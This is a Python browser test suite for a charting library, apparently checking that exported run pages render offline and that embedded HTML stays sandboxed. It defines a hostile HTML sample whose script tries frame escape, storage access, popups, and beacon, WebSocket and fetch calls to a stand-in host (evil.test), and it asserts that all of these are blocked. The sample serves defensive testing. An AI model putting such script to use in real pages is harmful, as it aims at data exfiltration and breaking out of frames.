"""Logged pages drawn by a real browser without a network: marks are there, and the console is silent."""

from __future__ import annotations

from pathlib import Path

import pytest
from chromium import wait_until
from playwright.sync_api import Browser, Frame, Page

import chartkit
from chartkit.media import Audio, Histogram, Molecule
from chartkit.runs.page import run_page
from chartkit.runs.reading.kept_media import KeptMedia

pytestmark = pytest.mark.browser

HOSTILE = """<!doctype html><p id="said"></p><a href="https://evil.test/">go</a><form action="https://evil.test/"></form>
<script>
const said = [];
const make = (tag, src) => document.body.append(Object.assign(document.createElement(tag), { src }));
const attempt = (name, act) => { try { act(); said.push(name) } catch (fault) { said.push(`${name}: ${fault.name}`) } };
attempt("top", () => top.location = "https://evil.test/top");
attempt("parent", () => parent.document.title = "mine");
attempt("storage", () => localStorage.length);
attempt("popup", () => open("https://evil.test/popup").document);
attempt("form", () => document.forms[0].submit());
attempt("alert", () => alert(1));
attempt("image", () => new Image().src = "https://evil.test/image");
attempt("frame", () => make("iframe", "https://evil.test/frame"));
attempt("script", () => make("script", "https://evil.test/script"));
attempt("socket", () => new WebSocket("wss://evil.test/"));
attempt("beacon", () => navigator.sendBeacon("https://evil.test/beacon", "x"));
for (const height of [1e9, -1, "<b>", null]) parent.postMessage({ height }, "*");
parent.postMessage(null, "*");
document.querySelector("a").click();
fetch("https://evil.test/fetch").catch((fault) => {
  said.push(`fetch: ${fault.name}`);
  document.querySelector("#said").textContent = said.join(", ");
});
</script>"""
MARKS = """() => {
  const count = (root) => root.querySelectorAll("canvas, .scatterlayer .point").length +
    [...root.querySelectorAll("*")].reduce((sum, one) => sum + (one.shadowRoot ? count(one.shadowRoot) : 0), 0);
  return count(document);
}"""


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The exported page of a run with media of every kind, one of them hostile."""
    import numpy as np
    import plotly.express as px
    from bokeh.embed import file_html
    from bokeh.plotting import figure
    from bokeh.resources import CDN

    folder = tmp_path_factory.mktemp("media")
    with pytest.MonkeyPatch.context() as monkeypatch:
        monkeypatch.chdir(folder)
        monkeypatch.setenv("CHARTKIT_SILENT", "1")
        px.scatter(x=[0, 1, 2], y=[0, 1, 4]).write_html("plotly.html", include_plotlyjs="cdn")
        plot = figure(width=200, height=200)
        plot.line([1, 2, 3], [1, 4, 9])
        Path("bokeh.html").write_text(file_html(plot, CDN), encoding="utf-8")
        Path("m.pdb").write_text("ATOM\n")
        with chartkit.init(project="p") as run:
            figure_itself = px.scatter(x=[0, 1, 2], y=["</script>", "b", "c"])
            run.log({"pages": chartkit.Html("plotly.html")})
            run.log({"pages": [chartkit.Html("bokeh.html"), figure_itself]})
            digit = chartkit.Image(np.eye(28), caption="a <b>digit</b>")
            run.log({"digits": [digit, chartkit.Image(np.eye(90))], "sound": Audio(np.zeros(8000), sample_rate=8000)})
            run.log({"numbers": Histogram([1, 2, 3, float("nan")], num_bins=2), "molecule": Molecule("m.pdb")})
            run.log({"hostile": chartkit.Html(HOSTILE)})
            run.log({"rows": chartkit.Table(columns=["image", "<n>"], data=[[digit, number] for number in range(101)])})
        page = run_page(chartkit.Api().run(run.id))
    assert page is not None
    assert (str(page), page.diagnostics) == ("6 media and 1 table", ())
    (folder / "run.html").write_text(page.html)
    (folder / "run.id").write_text(run.id)
    return folder / "run.html"


@pytest.fixture(scope="module")
def pages(exported: Path) -> list[Path]:
    """A page of Plotly in its run and one of Bokeh alone, both of which named their scripts by addresses."""
    read = chartkit.Api(exported.parent / ".chartkit").run((exported.parent / "run.id").read_text())
    plotly, bokeh = read.media("pages", step=0), read.media("pages")
    assert isinstance(plotly, KeptMedia)
    assert isinstance(bokeh, list)
    assert plotly.path is not None
    alone = exported.with_name("alone.html")
    alone.write_bytes(bokeh[0].standalone())
    return [plotly.path, alone]


def test_pages_of_a_run_draw_without_a_network(pages: list[Path], browser: Browser) -> None:
    with browser.new_context(offline=True) as context:
        for path in pages:
            page, said = context.new_page(), list[str]()
            page.on(
                "console", lambda message, said=said: said.append(message.text) if message.type == "error" else None
            )
            page.on("pageerror", lambda error, said=said: said.append(str(error)))
            page.goto(path.as_uri())
            wait_until(page, f"() => ({MARKS})() > 0")
            assert said == []


def test_the_page_of_a_run_shows_its_media_and_hostile_ones_reach_nothing(exported: Path, browser: Browser) -> None:
    asked: list[str] = []
    with browser.new_context(viewport={"width": 320, "height": 500}, color_scheme="dark") as context:
        context.route("https://**", lambda route: (asked.append(route.request.url), route.abort())[1])
        opened = list[object]()
        page = context.new_page()
        context.on("page", lambda one: opened.append(one))
        page.on("dialog", lambda one: opened.append(one))
        page.goto(exported.as_uri())
        page.wait_for_selector("section:not([data-state])", state="detached")
        assert page.locator("section").evaluate_all("all => all.map(({ dataset }) => dataset.marks)") == ["2"]
        assert page.evaluate("document.documentElement.scrollWidth") == 320
        shown = page.locator("article img").evaluate_all("all => all.map((one) => [one.alt, one.naturalWidth])")
        assert shown == [["a <b>digit</b>", 28], ["digits 2", 90], *[["a <b>digit</b>", 28]] * 100]
        assert page.locator("audio").get_attribute("aria-label") == "sound"
        wait_until(page, "() => document.querySelector('audio').duration === 1")
        assert page.locator("a[download]").get_attribute("download") == "molecule.pdb"
        notes = page.locator(".note, figcaption").all_inner_texts()
        assert notes == [
            "step 1; logged at 2 steps from 0 on",
            "a <b>digit</b>",
            "1 number NaN or infinite",
            "the first 100 of 101 rows · 2 columns",
        ]
        for title in ("pages 1", "pages 2"):
            wait_until(_frame(page, title), f"() => ({MARKS})() > 0")
        hostile = _frame(page, "hostile")
        wait_until(hostile, "() => document.querySelector('#said').textContent")
        assert hostile.text_content("#said") == (
            "top: SecurityError, parent: SecurityError, storage: SecurityError, popup: TypeError, form, alert, image, "
            "frame, script, socket, beacon, fetch: TypeError"
        )
        hostile.evaluate("location = 'https://evil.test/self'")
        wait_until(page, "() => frames.length === 3")
        assert page.get_by_title("hostile").evaluate("(one) => one.clientHeight <= 960")
        assert (page.url, page.title(), opened, asked) == (exported.as_uri(), page.title(), [], [])


def _frame(page: Page, title: str) -> Frame:
    frame = page.get_by_title(title, exact=True)
    frame.scroll_into_view_if_needed()
    found = frame.element_handle().content_frame()
    assert found is not None
    return found
